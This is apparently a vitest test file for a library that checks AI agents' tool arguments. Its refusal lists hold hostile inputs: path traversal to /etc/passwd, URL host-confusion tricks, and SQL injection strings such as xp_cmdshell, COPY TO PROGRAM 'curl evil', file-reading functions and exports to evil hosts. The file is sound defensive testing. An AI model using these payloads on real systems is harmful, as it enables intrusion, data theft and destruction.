import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PerimeterError } from "../../src/errors.js";
import { ArgumentConstraints, argumentConstraintSchema, normalisePath, readOnlySql, type SqlDialect, urlHost } from "../../src/tools/constraints.js";

// What argument constraints must refuse: the values an agent (or an injection steering it) would try, and the
// constraints an operator could mistype. Each case is refused with the argument named; the controls pass.

let dir: string;
let data: string;
let pub: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "perimeter-constraints-"));
  data = join(dir, "data");
  pub = join(data, "public");
  mkdirSync(join(pub, "sub"), { recursive: true });
  mkdirSync(join(dir, "data2"));
  mkdirSync(join(dir, "outside", "inner"), { recursive: true });
  writeFileSync(join(pub, "a.txt"), "a");
  writeFileSync(join(dir, "outside", "stolen.txt"), "secret");
  symlinkSync("/etc", join(pub, "etc-link"));
  symlinkSync(join(dir, "data2"), join(pub, "sibling"));
  symlinkSync(join(dir, "outside", "inner"), join(pub, "deep"));
  symlinkSync(join(dir, "outside", "new.txt"), join(pub, "dangling"));
  symlinkSync(join(pub, "loop"), join(pub, "loop"));
  symlinkSync(join(pub, "sub"), join(pub, "inner-link"));
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

const WHERE = "tools.servers.t.tools.x.arguments";
const compile = (spec: Record<string, unknown>) => ArgumentConstraints.compile(spec as never, WHERE);

async function refused(spec: Record<string, unknown>, args: unknown, options?: Parameters<ArgumentConstraints["check"]>[1]): Promise<string> {
  const d = await compile(spec).check(args, options);
  expect(d.allow, JSON.stringify(args)).toBe(false);
  expect(d.argument, JSON.stringify(args)).toBeDefined();
  return d.reason;
}

describe("path prefixes refuse", () => {
  const spec = () => ({ path: { pathPrefix: [pub] } });

  it("paths outside the prefix, however spelled", async () => {
    for (const path of [
      "/etc/passwd",
      `${pub}/../secret`,
      `${pub}/a/../../secret`,
      `${pub}2/x`,
      `${data}/publicity`,
      "relative/a.txt",
      "./a.txt",
      "~/a.txt",
      `${pub}/~root/a.txt`,
      `file://${pub}/a.txt`,
      `${pub}/a.txt\u0000.png`,
      `${pub}/a\nb.txt`,
      `${pub}\\..\\..\\etc`,
      `${pub}/%2e%2e/%2e%2e/etc`,
      `${pub}/%2F..%2F..%2Fetc`,
      // "．．" (fullwidth full stops) is ".." to anything that applies NFKC
      `${pub}/\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd`,
      `${pub}/\ud800.txt`,
      `${pub}/${"a/".repeat(2100)}`,
      "",
      "/",
      "//etc/passwd",
    ])
      await refused(spec(), { path });
  });

  it("symbolic links that lead out of the prefix, dangling ones included", async () => {
    expect(await refused(spec(), { path: join(pub, "etc-link", "passwd") })).toMatch(/symbolic link/);
    await refused(spec(), { path: join(pub, "sibling", "new-file") });
    // lexically inside (".." after a link); the kernel follows the link first, then goes up outside
    expect(await refused(spec(), { path: `${pub}/deep/../stolen.txt` })).toMatch(/symbolic link/);
    expect(await refused(spec(), { path: join(pub, "dangling") })).toMatch(/points to nothing/);
    await refused(spec(), { path: join(pub, "dangling", "child.txt") });
    expect(await refused(spec(), { path: join(pub, "loop", "x") })).toMatch(/ELOOP/);
    // a component that is a file: the tool cannot want it, and ENOTDIR is not "not there yet"
    expect(await refused(spec(), { path: join(pub, "a.txt", "x") })).toMatch(/ENOTDIR/);
  });

  it("what cannot be resolved: a missing prefix, a resolver that fails or answers nonsense, too many look-ups", async () => {
    await refused({ path: { pathPrefix: [join(dir, "does-not-exist")] } }, { path: join(dir, "does-not-exist", "x") });
    const eacces = Object.assign(new Error("permission denied"), { code: "EACCES" });
    await refused(spec(), { path: join(pub, "a.txt") }, { realpath: async (p) => (p === pub ? p : Promise.reject(eacces)) });
    await refused(spec(), { path: join(pub, "a.txt") }, { realpath: async (p) => (p === pub ? p : Promise.reject(new Error("no code"))) });
    await refused(spec(), { path: join(pub, "a.txt") }, { realpath: async (p) => (p === pub ? p : "etc/passwd") });
    const many = Array.from({ length: 600 }, (_, i) => join(pub, "missing", `m${i}`, "x", "y"));
    expect(await refused(spec(), { path: many })).toMatch(/look-ups/);
  });

  it("values that are not strings, and lists with one bad element", async () => {
    for (const path of [
      42,
      true,
      null,
      { toString: () => join(pub, "a.txt") },
      [join(pub, "a.txt"), "/etc/passwd"],
      [[pub]],
      Array.from({ length: 1001 }, () => join(pub, "a.txt")),
    ])
      await refused(spec(), { path });
  });

  it("nested arguments that break the rule or are not the objects the path goes through", async () => {
    const nested = { "options.path": { pathPrefix: [pub] } };
    for (const args of [
      { options: { path: "/etc/passwd" } },
      { options: [{ path: join(pub, "a.txt") }, { path: "/etc/passwd" }] },
      { options: "x" },
      { options: [[{ path: "/etc/passwd" }]] },
      { options: [5] },
    ])
      await refused(nested, args);
  });

  it("and let through what is inside, files yet to be created and links that stay inside included", async () => {
    const c = compile(spec());
    for (const path of [join(pub, "a.txt"), pub, join(pub, "new", "deeper.txt"), `${pub}/./a.txt`, join(pub, "inner-link", "b.txt"), [join(pub, "a.txt")]])
      expect((await c.check({ path })).allow, String(path)).toBe(true);
  });
});

describe("URL hosts refuse", () => {
  const spec = { url: { hosts: ["api.example.com", "*.docs.example.com", "127.0.0.1", "::1"] } };
  it("other hosts, and the tricks that make one look like another to some parser", async () => {
    for (const url of [
      "https://evil.example.net/",
      "https://api.example.com@evil.example.net/",
      "https://user:pass@api.example.com/",
      "https://api.example.com.evil.net/",
      "https://docs.example.com/",
      "https://xdocs.example.com/",
      "https://a.docs.example.com@evil.net/",
      // WHATWG ends the authority at "\", Python's urlsplit at "/": they disagree on the host
      "https://api.example.com\\@evil.example.net/",
      "https://evil.example.net\\.api.example.com/",
      "https://api%2Eexample.com/",
      "https://api.example.com%2F@evil.net/",
      "https:api.example.com/",
      "https:/api.example.com/",
      " https://api.example.com/",
      "https://api.example.com\t/",
      "https://api.exa\nmple.com/",
      "https://evil.net#@api.example.com",
      "https://evil.net?@api.example.com",
      "https://evil.net/.api.example.com",
      // Cyrillic "і" and a fullwidth dot: WHATWG maps the dot, other parsers do not
      "https://apі.example.com/",
      "https://api\uff0eexample.com/",
      // IP addresses only as listed and only in canonical form: "127.1", hex and decimal forms are 127.0.0.1 to
      // WHATWG and to inet_aton, and something else to other parsers
      "https://127.1/",
      "https://0x7f.0.0.1/",
      "https://2130706433/",
      "https://127.0.0.2/",
      "https://[0:0::1]/",
      "https://[::2]/",
      "ftp://api.example.com/",
      "wss://api.example.com/",
      "javascript:alert(1)",
      "api.example.com/path",
      "//api.example.com/path",
      "not a url",
      `https://api.example.com/${"a".repeat(9000)}`,
    ])
      await refused(spec, { url });
  });

  it("an IP address through a wildcard (refused as configuration), and schemes not allowed", async () => {
    expect(() => compile({ url: { hosts: ["*.0.0.1"] } })).toThrow(/not a host name/);
    await refused({ url: { hosts: ["api.example.com"], schemes: ["https"] } }, { url: "http://api.example.com/" });
  });

  it("values that are not strings", async () => {
    for (const url of [5, null, { href: "https://api.example.com/" }, ["https://api.example.com/", "https://evil.example.net/"]]) await refused(spec, { url });
  });

  it("and take what is listed", async () => {
    const c = compile(spec);
    for (const url of [
      "https://api.example.com/v1",
      "https://API.EXAMPLE.COM./v1",
      "https://a.docs.example.com/x",
      "http://api.example.com:8080/",
      "https://127.0.0.1/",
      "https://[::1]:8443/",
    ])
      expect((await c.check({ url })).allow, url).toBe(true);
  });
});

describe("numbers, enums, patterns and lengths refuse", () => {
  it("numbers out of bounds, and anything that is not a JSON number", async () => {
    const spec = { n: { min: 1, max: 100, integer: true } };
    for (const n of [0, 101, 1.5, -1, "5", "1e2", Number.NaN, Number.POSITIVE_INFINITY, null, true, [5], [[5]], { valueOf: () => 5 }])
      await refused(spec, { n });
    expect((await compile(spec).check({ n: 100 })).allow).toBe(true);
  });

  it("whole numbers JSON.parse has rounded, which the tool may read as another number", async () => {
    await refused({ n: { integer: true } }, JSON.parse('{"n": 9007199254740993}'));
    await refused({ n: { integer: true } }, { n: 1e300 });
  });

  it("values not in the enum, by type as well as by value", async () => {
    const spec = { mode: { enum: ["fast", "exact", 1] } };
    for (const mode of ["slow", "FAST", "fast ", "1", true, null, ["fast", "slow"], [["fast"]], { toString: () => "fast" }]) await refused(spec, { mode });
    await refused({ flag: { enum: [1] } }, { flag: true });
    expect((await compile(spec).check({ mode: 1 })).allow).toBe(true);
    // A multi-select takes a list of allowed values.
    expect((await compile(spec).check({ mode: ["fast", "exact"] })).allow).toBe(true);
  });

  it("strings the whole pattern does not match (RE2: linear time whatever the input)", async () => {
    const spec = { name: { pattern: "[a-z]+(-[a-z]+)*" } };
    for (const name of ["abc\n", "\nabc", "abc; rm -rf /", "", "ABC", 5]) await refused(spec, { name });
    // the anchors hold around an alternation
    for (const name of ["ab", "axxx", "xxxb"]) await refused({ name: { pattern: "a|b" } }, { name });
    await refused({ name: { pattern: ".*" } }, { name: "a\ud800" });
    const started = performance.now();
    await refused({ name: { pattern: "(a+)+b" } }, { name: `${"a".repeat(100_000)}c` });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it("strings longer than maxLength, and a missing required argument", async () => {
    await refused({ text: { maxLength: 5 } }, { text: "toolong" });
    expect(await refused({ text: { maxLength: 5, required: true } }, {})).toMatch(/required/);
    expect(await refused({ "a.b": { maxLength: 5, required: true } }, { a: null })).toMatch(/required/);
    expect(await refused({ "a.b": { maxLength: 5, required: true } }, { a: [{ b: "x" }, {}] })).toMatch(/required/);
    expect((await compile({ text: { maxLength: 5 } }).check({})).allow).toBe(true);
  });

  it("arguments that are not a JSON object at all", async () => {
    class Args {
      text = "ok";
    }
    const hostile = new Proxy(
      {},
      {
        getPrototypeOf() {
          throw new Error("trap");
        },
      },
    );
    for (const args of [null, [], "x", 5, new Map([["text", "ok"]]), new Args(), Object.create({ text: "toolong" }), hostile])
      await refused({ text: { maxLength: 5 } }, args);
  });

  it("inherited properties, never read", async () => {
    const proto = JSON.parse('{"__proto__": {"path": "/etc/passwd"}}') as object;
    expect((await compile({ path: { pathPrefix: ["/srv"], required: true } }).check(proto)).allow).toBe(false);
    expect((await compile({ text: { maxLength: 5, required: true } }).check(Object.create({ text: "ok" }))).allow).toBe(false);
  });
});

const WRITES: readonly string[] = [
  "DELETE FROM users",
  "UPDATE users SET admin = true",
  "INSERT INTO audit VALUES (1)",
  "DROP TABLE users",
  "SELECT 1; DROP TABLE users",
  "SELECT 1; -- harmless\nDELETE FROM users",
  "SELECT 1 -- harmless\rDELETE FROM users",
  "SELECT 1; COMMIT",
  "SELECT * INTO copy FROM users",
  "SELECT * INTO TEMP copy FROM users",
  "SELECT * FROM users FOR UPDATE",
  "SELECT * FROM users FOR NO KEY UPDATE",
  "SELECT * FROM users FOR KEY SHARE",
  "SELECT * FROM users FOR SHARE",
  "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
  "WITH changed AS (UPDATE users SET admin = true RETURNING *) SELECT * FROM changed",
  "WITH added AS (INSERT INTO users VALUES (1) RETURNING *) SELECT * FROM added",
  "SELECT pg_sleep(10)",
  "SELECT pg_catalog.pg_sleep(10)",
  'SELECT "pg_catalog"."pg_sleep"(10)',
  "SELECT pg_sleep (10)",
  "SELECT pg_sleep/**/(10)",
  "SELECT * FROM pg_sleep(10)",
  "SELECT 1 FROM users ORDER BY pg_sleep(1)",
  "SELECT CASE WHEN true THEN pg_sleep(1) END",
  "SELECT pg_sleep_for('1 minute')",
  "SELECT set_config('role', 'admin', false)",
  "SELECT nextval('ids')",
  "SELECT setval('ids', 1)",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT pg_ls_dir('/')",
  "SELECT lo_import('/etc/passwd')",
  "SELECT lo_export(1, '/tmp/x')",
  "SELECT pg_advisory_lock(1)",
  "SELECT pg_terminate_backend(42)",
  "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
  "SELECT dblink_exec('host=evil', 'DROP TABLE users')",
  "SELECT (SELECT pg_terminate_backend(42))",
  "SELECT 1 UNION SELECT pg_cancel_backend(42)",
  // the query is a string this check cannot see into
  "SELECT query_to_xml('SELECT pg_sleep(100)', true, false, '')",
  "COPY users TO PROGRAM 'curl evil'",
  "CALL do_things()",
  "DO $$ BEGIN DELETE FROM users; END $$",
  "EXPLAIN ANALYZE DELETE FROM users",
  "EXPLAIN SELECT 1",
  "VALUES (1)",
  "TABLE users",
  "SHOW ALL",
  "SET role admin",
  "LOCK TABLE users",
  "EXECUTE stmt",
  "PREPARE p AS DELETE FROM users",
  "GRANT ALL ON users TO public",
  "TRUNCATE users",
  // PostgreSQL ends 'a\' at the quote (standard strings); a reader that takes \' as an escape sees one SELECT
  "SELECT 'a\\'; DELETE FROM users; --'",
  "SELECT E'\\''; DELETE FROM users; --'",
  "SELECT 1 \\g",
  // nested comments: PostgreSQL nests them, node-sql-parser and MySQL do not
  "SELECT 1 /* /* */ ; DELETE FROM users; /* */ */",
  "SELECT 1 /* unterminated",
  "SELECT $$a; DELETE$$",
  "SELECT $1",
  "SELECT 1 # 2; DELETE FROM users",
  `SELECT U&"pg!005fsleep" UESCAPE '!' (1)`,
  "SELECT U&'\\0041'",
  "SELECT 'unterminated",
  "SELECT ((1)",
  "SELECT (1))",
  "SELECT 1\u0000; DELETE FROM users",
  "SELECT 1\u000b",
  "",
  "   ",
  ";;",
  "-- only a comment",
  "x".repeat(10_001),
];

const WRITES_IN: Readonly<Record<Exclude<SqlDialect, "postgresql">, readonly string[]>> = {
  mysql: [
    // "--1" is minus minus one to MySQL, so the DELETE runs; a comment to node-sql-parser
    "SELECT 1 --1; DELETE FROM users",
    "SELECT 1 /*! ; DELETE FROM users */",
    "SELECT 1 # ; DELETE FROM users",
    // with backslash escapes MySQL reads 'a\'' as one string and runs the DELETE after it
    "SELECT 'a\\'' ; DELETE FROM users; -- '",
    "SELECT * FROM users INTO OUTFILE '/tmp/x'",
    "SELECT * FROM users INTO DUMPFILE '/tmp/x'",
    "SELECT 1 INTO @x",
    "SELECT * FROM users LOCK IN SHARE MODE",
    "SELECT * FROM users FOR UPDATE",
    "SELECT SLEEP(10)",
    "SELECT BENCHMARK(100000000, MD5('a'))",
    "SELECT LOAD_FILE('/etc/passwd')",
    "SELECT GET_LOCK('a', 10)",
    "SELECT sys_exec('id')",
    "SELECT `sleep`(10)",
  ],
  mariadb: ["SELECT 1 /*M! ; DELETE FROM users */", "SELECT 1 /*+ ; */", "SELECT SLEEP(10)"],
  sqlite: [
    "ATTACH DATABASE '/tmp/x' AS y",
    "SELECT load_extension('/tmp/evil.so')",
    "SELECT writefile('/tmp/x', 'y')",
    "SELECT readfile('/etc/passwd')",
    "SELECT fts3_tokenizer('simple')",
    "PRAGMA writable_schema = 1",
  ],
  transactsql: [
    "SELECT * INTO copy FROM users",
    "SELECT * FROM users WITH (UPDLOCK)",
    "SELECT * FROM users WITH (TABLOCKX, HOLDLOCK)",
    "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil', 'SELECT 1')",
    "SELECT * FROM [openquery](evil, 'DELETE FROM users')",
    "WAITFOR DELAY '00:00:10'",
    "EXEC xp_cmdshell 'whoami'",
    "SELECT 1\nGO\nDELETE FROM users",
    "SELECT 1 DELETE FROM users",
    "SELECT * INTO #t FROM users",
  ],
  bigquery: [
    "SELECT * FROM EXTERNAL_QUERY('conn', 'DELETE FROM users')",
    "SELECT 1 # ; DELETE FROM users",
    "EXPORT DATA OPTIONS(uri='gs://evil/*') AS SELECT * FROM users",
    "SELECT r'a\\' ; DELETE FROM users",
  ],
};

describe("read-only SQL refuses", () => {
  it("every statement that writes, locks, waits or reaches outside, and SQL that does not parse or parses two ways", async () => {
    for (const sql of WRITES) expect(await readOnlySql(sql, "postgresql"), sql.slice(0, 60)).toBeDefined();
  });

  it("what each dialect hides: executable comments, backslash escapes, lock hints, its own side-effecting functions", async () => {
    for (const [dialect, writes] of Object.entries(WRITES_IN))
      for (const sql of writes) expect(await readOnlySql(sql, dialect as SqlDialect), `${dialect}: ${sql}`).toBeDefined();
  });

  it("SQL that makes the parser backtrack exponentially, within its deadline", async () => {
    for (const sql of [
      `SELECT ${"(SELECT ".repeat(10)}1 +${")".repeat(10)}`,
      `SELECT ${"CASE WHEN (".repeat(12)}1 END${")".repeat(12)}`,
      `SELECT ${"(".repeat(33)}1${")".repeat(33)}`,
      `SELECT ${"(SELECT ".repeat(40)}1`,
    ]) {
      const started = performance.now();
      expect(await readOnlySql(sql, "postgresql"), sql.slice(0, 40)).toMatch(/parse|nests|unbalanced/);
      expect(performance.now() - started).toBeLessThan(3000);
    }
    // and the next query is checked by a fresh parser
    expect(await readOnlySql("SELECT 1", "postgresql")).toBeUndefined();
  });

  it("through a constraint: SQL of another type, in a list, or too many SQL texts in one call", async () => {
    const spec = { q: { sql: "read-only" } };
    for (const q of [5, null, { sql: "SELECT 1" }, ["SELECT 1", "DELETE FROM users"], Array.from({ length: 17 }, () => "SELECT 1")]) await refused(spec, { q });
    expect(await refused(spec, { q: "DELETE FROM users" })).toMatch(/read-only/);
  });

  it("and take plain reads", async () => {
    for (const sql of [
      "SELECT name FROM users WHERE id = 1",
      "SELECT count(*) FROM orders GROUP BY region",
      "WITH recent AS (SELECT * FROM orders WHERE day > now() - interval '1 day') SELECT * FROM recent",
      "select 1 /* ; drop table x */",
      "SELECT 'it''s; DELETE FROM users'",
      'SELECT "into" FROM t',
      "SELECT 1; SELECT 2;",
    ])
      expect(await readOnlySql(sql, "postgresql"), sql).toBeUndefined();
  });
});

describe("a constraint in the configuration is refused when it", () => {
  it("has no rule, rules that cannot hold together, a pattern RE2 cannot run, a prefix or host that is not one", () => {
    for (const spec of [
      {},
      { required: true },
      { integer: false },
      { min: 5, max: 1 },
      { min: 1, pattern: "[0-9]+" },
      { enum: ["a", 1], maxLength: 3 },
      { enum: ["1"], max: 3 },
      { enum: [] },
      { schemes: ["https"] },
      { sqlDialect: "mysql" },
      { sql: "read-write" },
      { sql: "read-only", sqlDialect: "oracle" },
      { pathPrefix: ["srv/data"] },
      { pathPrefix: ["~/data"] },
      { pathPrefix: ["/srv/%2e%2e/etc"] },
      { pathPrefix: ["/srv\\data"] },
      { hosts: ["https://api.example.com"] },
      { hosts: ["api.example.com:443"] },
      { hosts: ["api.example.com/v1"] },
      { hosts: ["user@api.example.com"] },
      { hosts: ["*"] },
      { hosts: ["*."] },
      { hosts: ["a.*.example.com"] },
      { hosts: ["*.127.0.0.1"] },
      { hosts: ["*.[::1]"] },
      { schemes: ["ftp"], hosts: ["a.example"] },
      { maxLength: -1 },
      { maxLength: 1.5 },
      { min: Number.POSITIVE_INFINITY },
      { pathprefix: ["/srv"] },
    ])
      expect(argumentConstraintSchema.safeParse(spec).success, JSON.stringify(spec)).toBe(false);
  });

  it("is compiled: CONFIG_INVALID naming where it is, for bad rules and argument names that reach the prototype", () => {
    const invalid = (spec: Record<string, unknown>, message: RegExp) => {
      let caught: unknown;
      try {
        compile(spec);
      } catch (err) {
        caught = err;
      }
      expect(caught, JSON.stringify(spec)).toBeInstanceOf(PerimeterError);
      expect((caught as PerimeterError).code).toBe("CONFIG_INVALID");
      expect((caught as PerimeterError).message).toMatch(message);
    };
    invalid({ a: { pattern: "(?<=x)y" } }, /tools\.servers\.t\.tools\.x\.arguments\.a\.pattern: .*RE2/);
    invalid({ a: { pattern: "(a)\\1" } }, /RE2/);
    // "a)|(b" would wrap into "^(?:a)|(b)$", which matches anything starting with "a"
    invalid({ a: { pattern: "a)|(b" } }, /RE2/);
    invalid({ a: { min: 5, max: 1 } }, /arguments\.a\.min: min \(5\) must not exceed max/);
    invalid({ a: { pathPrefix: ["relative"] } }, /arguments\.a\.pathPrefix\.0: .*absolute path/);
    invalid({ a: { hosts: ["https://x.example"] } }, /arguments\.a\.hosts\.0/);
    invalid({ a: {} }, /at least one rule/);
    invalid({ "__proto__.x": { maxLength: 1 } }, /not an argument name/);
    invalid({ "a.constructor": { maxLength: 1 } }, /not an argument name/);
    invalid({ "a..b": { maxLength: 1 } }, /not an argument name/);
    invalid({ "": { maxLength: 1 } }, /not an argument name/);
    invalid(JSON.parse('{"__proto__": {"maxLength": 1}}') as Record<string, unknown>, /not an argument name/);
  });
});

describe("the views policies read", () => {
  it("normalise paths lexically and refuse what is not a plain absolute path", () => {
    expect(normalisePath("/srv/a/../b/./c/")).toBe("/srv/b/c");
    expect(normalisePath("/srv/../../etc")).toBe("/etc");
    for (const p of [
      "srv/a",
      "",
      "/a\u0000b",
      "/a\tb",
      "C:\\x",
      "/a\\b",
      "/a/%2e%2e/b",
      "/a/%2F",
      "~",
      "/~/x",
      "/home/~root",
      "/a\ud800",
      `/${"a".repeat(5000)}`,
    ])
      expect(normalisePath(p), p).toBeUndefined();
  });

  it("give a URL's host only for http(s) URLs every parser reads alike", () => {
    expect(urlHost("https://API.Example.com./x")).toBe("api.example.com");
    for (const u of [
      "https://a@b.com/",
      "ftp://x.com/",
      "x.com",
      "https://",
      "https://127.1/",
      "https://a.com\\@b.com/",
      "https:a.com",
      "https://bücher.example/",
    ])
      expect(urlHost(u), u).toBeUndefined();
  });
});
